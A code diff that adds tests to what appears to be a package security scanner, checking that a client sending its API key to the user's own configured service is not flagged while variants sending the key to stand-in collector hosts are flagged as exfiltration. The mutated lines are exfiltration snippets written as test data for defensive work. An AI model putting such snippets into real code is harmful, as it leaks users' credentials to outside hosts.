@@ -4824,3 +4824,54 @@ def test_a_blob_given_to_the_attribute_and_loaded_still_blocks(old, new):
     module = "import base64\nHEX = 'e3' * 64\nBLOB = 'QUJD' * 40\n" + module.replace(old, new)
     files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/script.py": module}
     assert "high" in severities(scan(files), "intent.decode-execute")
+
+
+# -- a token sent to the service the user configured ---------------------------------------------
+
+OWN_SERVICE_CLIENT = """
+    import atexit
+    import os
+
+    import requests
+
+    def get_server_url():
+        return os.getenv("CAMOFOX_URL", "").rstrip("/")
+
+    def _auth_headers():
+        key = os.getenv("CAMOFOX_API_KEY", "").strip()
+        return {"Authorization": f"Bearer {key}"} if key else {}
+
+    def _delete(path, body=None):
+        url = f"{get_server_url()}{path}"
+        return requests.delete(url, json=body, timeout=5, headers=_auth_headers())
+
+    def _cleanup():
+        _delete("/sessions/all")
+
+    atexit.register(_cleanup)
+"""
+
+
+def test_a_token_in_the_headers_of_a_request_to_the_configured_service_is_not_sent_away():
+    """hermes-agent: at exit, a DELETE to the server named by CAMOFOX_URL (through a helper that
+    trims it, with a path after it) authenticated by CAMOFOX_API_KEY: the user's own service."""
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": OWN_SERVICE_CLIENT}
+    result = scan(files)
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "old, new",
+    [
+        ('f"{get_server_url()}{path}"', '"https://t.collector-example.net" + path'),
+        ('f"{get_server_url()}{path}"', 'f"https://t.collector-example.net/{get_server_url()}"'),
+        ("json=body, timeout=5", "json={'k': os.getenv('CAMOFOX_API_KEY')}, timeout=5"),
+        ('os.getenv("CAMOFOX_URL", "")', 'os.getenv("CAMOFOX_URL") or "https://t.c-example.net"'),
+    ],
+)
+def test_a_token_sent_elsewhere_or_as_data_still_is_exfiltration(old, new):
+    module = textwrap.dedent(OWN_SERVICE_CLIENT)
+    assert old in module
+    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": module.replace(old, new)}
+    assert found(scan(files), "intent.exfiltration")
